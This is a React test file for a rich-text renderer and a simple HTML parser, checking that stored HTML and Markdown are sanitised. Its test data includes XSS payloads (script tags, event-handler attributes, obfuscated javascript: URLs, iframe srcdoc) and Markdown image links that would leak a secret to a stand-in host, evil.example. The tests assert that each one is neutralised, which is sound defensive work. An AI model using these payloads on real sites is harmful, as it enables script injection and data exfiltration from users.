import { screen } from '@testing-library/react';
import { renderScreen } from '../../testing';
import { RichText, preloadMarkdown } from '../rich-text';
import { parseSimpleHtml } from './simple-html';

describe('stored HTML', () => {
  test('renders stored HTML as elements with links that open in a new tab', async () => {
    renderScreen(
      <RichText html='<h1>News</h1><p>Read <strong>the</strong> <a href="https://example.com/a">notes</a>.<br>Now.</p><ul><li>one</li></ul>' />,
    );
    expect(screen.getByRole('heading', { level: 3, name: 'News' })).toBeVisible();
    expect(screen.getByText('the').tagName).toBe('STRONG');
    expect(screen.getByRole('link', { name: 'notes (opens in a new tab)' })).toHaveAttribute(
      'rel',
      'noopener noreferrer',
    );
    expect(screen.getAllByRole('listitem')).toHaveLength(1);
  });

  test.each([
    'javascript:alert(1)',
    'java&#115;cript:alert(1)',
    'data:text/html,x',
    '//evil.example',
    '/api/v1/me',
    '',
  ])('renders only the text of a link to %s', (href) => {
    renderScreen(<RichText html={`<a href="${href}">words</a>`} />);
    expect(screen.getByText('words')).toBeVisible();
    expect(screen.queryByRole('link')).not.toBeInTheDocument();
  });

  test.each([
    '<script>window.stolen = 1</script>',
    '<img src=x onerror="window.stolen = 1">',
    '<svg/onload=window.stolen=1>',
    '<b onmouseover="window.stolen=1" style="position:fixed">b</b>',
    '<iframe srcdoc="<script>parent.stolen=1</script>"></iframe>',
  ])('runs nothing of %s', (html) => {
    const { container } = renderScreen(<RichText html={html} />);
    expect(container.innerHTML).not.toMatch(/<(script|img|iframe|svg)\b|onerror|onmouseover|style=/i);
    expect('stolen' in window).toBe(false);
  });

  test('breaks long lines of code instead of widening the page', () => {
    renderScreen(<RichText html="<pre>SELECT 1</pre>" />);
    expect(screen.getByText('SELECT 1')).toHaveClass('ui-rich-text__code');
  });
});

describe('Markdown', () => {
  beforeAll(() => preloadMarkdown());

  const renderAnswer = (content: string) =>
    renderScreen(<RichText markdown={content} id="a" headings="bold" showsHosts />);

  describe('markdown of others', () => {
    test('renders emphasis, lists, tables and quotes', () => {
      renderAnswer('> **Bold** text\n\n- one\n- two\n\n| a | b |\n| --- | --- |\n| 1 | 2 |');
      expect(screen.getByText('Bold').tagName).toBe('STRONG');
      expect(screen.getAllByRole('listitem')).toHaveLength(2);
      expect(screen.getByRole('cell', { name: '2' })).toBeInTheDocument();
    });

    test('opens links in a new tab without an opener', () => {
      renderAnswer('[Users](/help/en/users#sort)');
      const link = screen.getByRole('link', { name: /^Users/ });
      expect(link).toHaveAttribute('href', '/help/en/users#sort');
      expect(link).toHaveAttribute('target', '_blank');
      expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    });

    test('shows the host of a link to another site', () => {
      renderAnswer('[My bank](https://evil.example/login) and [home](/home)');
      expect(screen.getByRole('link', { name: /My bank \(evil\.example\)/ })).toBeInTheDocument();
      expect(screen.getByRole('link', { name: /^home \(opens/ })).toBeInTheDocument();
    });

    test.each([
      '[x](javascript:alert(1))',
      '[x](data:text/html,1)',
      '[x](//evil.example)',
      '<javascript:alert(1)>',
      '[x](/api/v1/me)',
    ])('renders no link for %s', (content) => {
      renderAnswer(content);
      expect(screen.queryByRole('link')).not.toBeInTheDocument();
    });

    test.each([
      '![a](https://evil.example/?d=SECRET)',
      '![a][1]\n\n[1]: https://evil.example/?d=SECRET',
      '| ![a](https://evil.example/?d=SECRET) |\n| --- |',
      'a[^1]\n\n[^1]: ![a](https://evil.example/?d=SECRET)',
    ])('shows an image as text and never fetches it: %s', (content) => {
      renderAnswer(content);
      expect(screen.queryByRole('img')).not.toBeInTheDocument();
      expect(screen.getByText(/Image: a/)).toBeInTheDocument();
    });

    test('shows raw HTML as text', () => {
      renderAnswer('<img src=x onerror=alert(1)> <b id="remote_chat">b</b>\n\n<script>alert(1)</script>');
      expect(screen.queryByRole('img')).not.toBeInTheDocument();
      expect(document.body.innerHTML).not.toMatch(/<script|<b |onerror=alert\(1\)>/);
    });

    test('renders headings as bold paragraphs', () => {
      renderAnswer('# Title');
      expect(screen.queryByRole('heading')).not.toBeInTheDocument();
      expect(screen.getByText('Title')).toBeInTheDocument();
    });

    test('hides a link whose address contains a line break in its scheme', () => {
      renderAnswer('[x](java&#10;script:alert(1))');
      expect(screen.queryByRole('link')).not.toBeInTheDocument();
    });
  });

  test('renders headings below the headings of the page, at most at level 6', () => {
    renderScreen(<RichText markdown={'# One\n\n## Two\n\n###### Six'} />);
    expect(screen.getByRole('heading', { level: 3, name: 'One' })).toBeVisible();
    expect(screen.getByRole('heading', { level: 4, name: 'Two' })).toBeVisible();
    expect(screen.getByRole('heading', { level: 6, name: 'Six' })).toBeVisible();
  });

  test('shows no hosts unless asked to', () => {
    renderScreen(<RichText markdown="[Docs](https://example.com/a)" />);
    expect(screen.getByRole('link')).toHaveAccessibleName('Docs (opens in a new tab)');
  });

  test('shows images of the portal, and only those, when asked to', () => {
    renderScreen(
      <RichText
        showsImages
        markdown={'![own](/assets/a.png) ![api](/api/v1/me) ![foreign](https://evil.example/b.png)'}
      />,
    );
    expect(screen.getAllByRole('img').map((image) => image.getAttribute('src'))).toEqual(['/assets/a.png']);
    expect(screen.getByText(/Image: foreign/)).toBeVisible();
  });
});

describe('simple HTML', () => {
  test('keeps emphasis and links', () => {
    expect(parseSimpleHtml('<strong>Ada</strong> read <em>it <b>all</b></em>')).toEqual([
      { tag: 'strong', children: ['Ada'] },
      ' read ',
      { tag: 'em', children: ['it ', { tag: 'b', children: ['all'] }] },
    ]);
    expect(parseSimpleHtml('<a href="https://example.com/?a=1&amp;b=2">notes</a>')).toEqual([
      { tag: 'a', href: 'https://example.com/?a=1&b=2', children: ['notes'] },
    ]);
  });

  test('keeps the addresses of links and images for the renderer to check', () => {
    expect(
      parseSimpleHtml('<a onclick="x()" href="javascript&#58;alert(1)">x</a><img src="/a.png" alt="A">'),
    ).toEqual([
      { tag: 'a', href: 'javascript:alert(1)', children: ['x'] },
      { tag: 'img', src: '/a.png', alt: 'A', children: [] },
    ]);
  });

  test('keeps only the text of other tags', () => {
    expect(parseSimpleHtml('<video src=x onerror=alert(1)><font>a</font></video>b').join('')).toBe('ab');
  });

  test.each([
    'a<script>alert(1)</script>b',
    'a<SCRIPT src=x>alert(1)</SCRIPT >b',
    'a<style>b{}</style>b',
    'a<svg><p onload=x>alert</p></svg>b',
    'a<!-- <b>c</b> -->b',
    'a<iframe srcdoc="<p>x</p>">x</iframe>b',
  ])('drops scripts, styles, frames, drawings and comments with their content: %s', (html) => {
    expect(parseSimpleHtml(html).join('')).toBe('ab');
  });

  test('drops the rest of a text whose script is not closed', () => {
    expect(parseSimpleHtml('a<script>alert(1)')).toEqual(['a']);
  });

  test('ends a paragraph where a block begins and a link where another begins', () => {
    expect(parseSimpleHtml('<p>a<p>b<ul><li>c</li></ul>')).toEqual([
      { tag: 'p', children: ['a'] },
      { tag: 'p', children: ['b'] },
      { tag: 'ul', children: [{ tag: 'li', children: ['c'] }] },
    ]);
    expect(parseSimpleHtml('<a href="/a">a<a href="/b">b</a>')).toEqual([
      { tag: 'a', href: '/a', children: ['a'] },
      { tag: 'a', href: '/b', children: ['b'] },
    ]);
  });

  test('parses a hundred thousand opening brackets within a second', () => {
    const startedAt = performance.now();
    for (const sign of ['<', '<!--', '<script', '<a href="', '</p><p>']) parseSimpleHtml(sign.repeat(20_000));
    expect(performance.now() - startedAt).toBeLessThan(1000);
  });

  test('decodes entities once', () => {
    expect(parseSimpleHtml('&lt;b&gt; &amp;lt; &#39;&#x130;&nosuch;').join('')).toBe("<b> &lt; 'İ&nosuch;");
  });

  test('parses unclosed and unopened tags', () => {
    expect(parseSimpleHtml('a < b</em><strong>c')).toEqual([
      'a ',
      '<',
      ' b',
      { tag: 'strong', children: ['c'] },
    ]);
  });
});
